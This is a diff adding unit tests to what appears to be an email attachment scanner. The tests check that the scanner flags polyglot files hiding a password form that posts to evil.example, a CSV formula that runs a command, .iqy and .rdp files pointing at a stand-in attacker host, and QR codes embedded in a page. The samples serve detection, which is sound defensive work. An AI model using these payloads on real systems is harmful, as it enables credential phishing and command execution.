@@ -5,6 +5,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <cmocka.h>
+#include <glib.h>
 
 static struct extract_ctx *ctx;
 #define IBAN "IT60X0542811101000000123456"
@@ -203,6 +204,72 @@ static void test_tnef(void **state)
     arena_free(&a);
 }
 
+/* What is put before or around a thing so that it is taken for another: its own program looks past it, so must we. */
+static void test_looked_past(void **state)
+{
+    (void)state;
+    static const char page[] = "<html><form action='https://evil.example/p'><input type=password></form></html>";
+    static const struct {
+        const char *name, *front;
+        size_t n;
+        const char *kind;
+        uint32_t flags;
+    } pages[] = {
+        {"p.html", "ID3", 3, "html", ATT_PASSWORD_FORM | ATT_POLYGLOT},
+        {"p.html", "RIFF", 4, "html", ATT_PASSWORD_FORM | ATT_POLYGLOT},
+        {"p.htm", "<!--ftyp-->", 11, "html", ATT_PASSWORD_FORM | ATT_POLYGLOT},
+        {"p.html", "PK\3\4", 4, "html", ATT_PASSWORD_FORM | ATT_POLYGLOT},
+        {"p.html", "BM", 2, "html", ATT_PASSWORD_FORM},
+        {"p.xhtml", "<?xml version='1.0'?>", 21, "html", ATT_PASSWORD_FORM},
+    };
+    struct extract_result r;
+    struct arena a;
+    arena_init(&a, ARENA_NO_LIMIT);
+    for (size_t i = 0; i < N_ELEMENTS(pages); i++) {
+        char bytes[400];
+        memcpy(bytes, pages[i].front, pages[i].n);
+        memcpy(bytes + pages[i].n, page, sizeof page - 1);
+        read_as(pages[i].name, str_n(bytes, pages[i].n + sizeof page - 1), &r);
+        const struct facts_attachment *f = &r.in.attachments[0];
+        if (!str_eq(f->kind, str_c(pages[i].kind)) || (f->flags & pages[i].flags) != pages[i].flags)
+            fail_msg("page %zu: %.*s %x", i, STRF(f->kind), f->flags);
+        arena_free(&r.arena);
+    }
+    static const struct {
+        const char *seed, *name;
+        uint32_t flags;
+    } packs[] = {
+        {"zip-behind-text", "o.zip", ATT_PROGRAM | ATT_POLYGLOT},
+        {"zip-behind-bytes", "o.zip", ATT_PROGRAM | ATT_POLYGLOT},
+        {"zip-like-document", "o.zip", ATT_PROGRAM},
+        {"zip-like-document", "o.docx", ATT_PROGRAM},
+        {"tar-old", "o.tar", ATT_PROGRAM},
+    };
+    for (size_t i = 0; i < N_ELEMENTS(packs); i++) {
+        read_as(packs[i].name, sample(&a, packs[i].seed), &r);
+        if ((r.in.attachments[0].flags & packs[i].flags) != packs[i].flags)
+            fail_msg("%s as %s: %x", packs[i].seed, packs[i].name, r.in.attachments[0].flags);
+        arena_free(&r.arena);
+    }
+    static const struct {
+        const char *name, *text;
+        uint32_t flags;
+    } texts[] = {
+        {"o.csv", "a;=cmd|'/c calc'!A1\n", ATT_MACRO},
+        {"o.csv", "a-b|c|wow!\n-5|'x'\n", 0},
+        {"o.iqy", "WEB\n1\nhttps://evil.example/q\n", ATT_PROGRAM},
+        {"o.rdp", "full address:s:evil.example\n", ATT_SHORTCUT},
+        {"o.arj", "\x60\xEA packed", ATT_UNREADABLE},
+    };
+    for (size_t i = 0; i < N_ELEMENTS(texts); i++) {
+        read_as(texts[i].name, str_c(texts[i].text), &r);
+        if (r.in.attachments[0].flags != texts[i].flags)
+            fail_msg("%s %zu: %x", texts[i].name, i, r.in.attachments[0].flags);
+        arena_free(&r.arena);
+    }
+    arena_free(&a);
+}
+
 /* One code as pictures of every format, and cut anywhere. */
 static void test_pictures(void **state)
 {
@@ -233,6 +300,33 @@ static void test_pictures(void **state)
             free(copy);
         }
         arena_free(&a);
+    }
+}
+
+/* A picture written into the page itself has no row. */
+static void test_picture_in_page(void **state)
+{
+    (void)state;
+    static const char *const seeds[] = {"gif-qr", "gif-qr-moving", "bmp-qr-1", "webp-qr", "png-qr-address"};
+    for (size_t i = 0; i < N_ELEMENTS(seeds); i++) {
+        struct extract_result r;
+        struct arena a;
+        struct buf b;
+        arena_init(&a, ARENA_NO_LIMIT);
+        buf_init(&b, 1u << 20);
+        struct str bytes = sample(&a, seeds[i]);
+        char *text = g_base64_encode((const guchar *)bytes.p, bytes.n);
+        buf_printf(&b,
+                   "From: a@b.example\r\nContent-Type: text/html\r\n\r\n<p>Ciao <img src=\"data:image/x;base64,%s\">",
+                   text);
+        extract_run(ctx, buf_str(&b), &r);
+        assert_int_equal(r.code, 0);
+        if (!has_link(&r, LINK_QR, "https://portale.example/login?x=1"))
+            fail_msg("%s", seeds[i]);
+        g_free(text);
+        arena_free(&r.arena);
+        arena_free(&a);
+        buf_free(&b);
     }
 }
 
@@ -508,7 +602,9 @@ int main(void)
                                        cmocka_unit_test(test_permissions),
                                        cmocka_unit_test(test_msg),
                                        cmocka_unit_test(test_pictures),
-                                       cmocka_unit_test(test_picture_limits)};
+                                       cmocka_unit_test(test_picture_limits),
+                                       cmocka_unit_test(test_looked_past),
+                                       cmocka_unit_test(test_picture_in_page)};
     if (extract_open(&ctx, NULL) != 0)
         return 1;
     int r = cmocka_run_group_tests(tests, NULL, NULL);
